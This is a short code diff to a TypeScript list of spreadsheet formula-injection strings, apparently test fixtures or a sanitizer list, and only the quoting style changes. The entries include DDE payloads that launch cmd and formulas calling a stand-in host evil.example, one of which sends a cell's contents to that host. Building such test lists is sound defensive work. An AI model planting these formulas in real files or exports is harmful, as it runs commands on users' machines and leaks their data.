@@ -2,15 +2,15 @@
 
 export const sheetFormulas: readonly string[] = [
   '=1+1',
-  '=cmd|\'/C calc\'!A0',
+  "=cmd|'/C calc'!A0",
   '=HYPERLINK("https://evil.example/?"&A1,"Click")',
   '=IMPORTXML("https://evil.example","//a")',
   '=WEBSERVICE("https://evil.example")',
   '=DDE("cmd";"/C calc";"x")',
   '+1+1',
-  '+254700000000+cmd|\'/C calc\'!A0',
+  "+254700000000+cmd|'/C calc'!A0",
   '-1+1',
-  '-2+3+cmd|\'/C calc\'!A0',
+  "-2+3+cmd|'/C calc'!A0",
   '@SUM(1+1)',
   '@evil',
   '\t=1+1',
